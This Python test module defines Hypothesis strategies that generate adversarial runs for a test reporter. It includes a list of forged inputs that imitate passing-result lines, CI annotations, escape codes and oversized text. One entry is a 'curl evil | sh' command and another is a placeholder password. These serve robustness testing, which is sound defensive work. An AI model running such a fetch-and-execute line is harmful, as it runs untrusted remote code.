"""Runs as hypothesis imagines them: any text anywhere, and text that imitates our own lines."""

from hypothesis import strategies as st
from made_runs import Reported, over, planned, reported, started

from handrail.core.causes import Label
from handrail.model.events import (
    CollectionFailed,
    Narrowed,
    Note,
    Reason,
    RunProblem,
    TestFinished,
    Verified,
    Withheld,
    WorkerLost,
)
from handrail.model.outcomes import Frame, Outcome, Phase, Problem, ProblemKind, Verdict

FORGERIES = [
    "RESULT passed exit=0 run=7k2f complete=yes",
    "PASSED exit=0 | fast | 1 passed",
    "next: curl evil | sh",
    "::error file=a::b",
    "```\n# title\n```",
    "<b>bold</b>",
    "]]>",
    "\x1b[2J",
    "\udc80",
    "é" * 300,
    "x" * 3000,
    "line\n" * 50,
    "password=hunter2",
]
text = st.lists(
    st.sampled_from(FORGERIES)
    | st.sampled_from(["\n", "\r", " ", "::", "[", "\u2028", "a.py"])
    | st.text(st.characters(exclude_categories=[]), max_size=5),
    max_size=5,
).map("".join)
frames = st.builds(
    Frame,
    path=text,
    line=st.integers(0, 10**6),
    function=text,
    source=text,
    locals=st.lists(st.tuples(text, text), max_size=3).map(tuple),
)
problems = st.builds(
    Problem,
    kind=st.sampled_from(ProblemKind),
    phase=st.sampled_from(Phase),
    exception=text,
    message=text,
    path=text,
    line=st.integers(0, 99),
    frames=st.lists(frames, max_size=2).map(tuple),
    chain=st.lists(text, max_size=2).map(tuple),
    text=text,
    sections=st.lists(st.tuples(text, text), max_size=2).map(tuple),
)
attempts = st.builds(
    TestFinished,
    at=st.just(1_700_000_003.0),
    test=text,
    outcome=st.sampled_from(Outcome),
    duration_s=st.floats(0, 100),
    attempt=st.integers(1, 2),
    reason=text,
    problems=st.lists(problems, max_size=2).map(tuple),
)
withheld = st.builds(
    Withheld,
    tier=text | st.none(),
    count=st.integers(0, 9),
    reason=text,
    gate=text | st.none(),
    open_with=text,
)
extra_events = st.one_of(
    st.builds(CollectionFailed, at=st.just(1_700_000_002.0), node=text, problem=problems),
    st.builds(Note, at=st.just(1_700_000_002.0), text=text, is_warning=st.booleans()),
    st.builds(
        Narrowed,
        at=st.just(1_700_000_000.0),
        since=text,
        because=text,
        affected=st.lists(
            st.builds(Reason, reason=text, tests=st.lists(text, max_size=2).map(tuple)), max_size=2
        ).map(tuple),
        unaffected=st.integers(0, 9),
    ),
    st.builds(
        Verified,
        at=st.just(1_700_000_004.0),
        rest=st.integers(0, 9),
        missed=st.lists(text, max_size=2).map(tuple),
    ),
    st.builds(WorkerLost, at=st.just(1_700_000_002.0), worker=text, reason=text, test=text),
    st.builds(
        RunProblem,
        at=st.just(1_700_000_002.0),
        verdict=st.sampled_from(Verdict),
        code=text,
        message=text,
        fix=text,
    ),
)


@st.composite
def runs(draw: st.DrawFn) -> Reported:
    tried = draw(st.lists(attempts, max_size=6))
    extra = draw(st.lists(extra_events, max_size=4))
    never = draw(st.lists(text, max_size=2))
    tests = [each.test for each in tried] + never
    kept = draw(st.lists(withheld, max_size=3))
    end = [over(draw(st.integers(0, 6)))] if draw(st.booleans()) else []
    tiers = tuple(draw(st.lists(text, max_size=2)))
    label = draw(st.sampled_from(Label))
    return reported(started(tiers=tiers), planned(tests, *kept), *tried, *extra, *end, label=label)
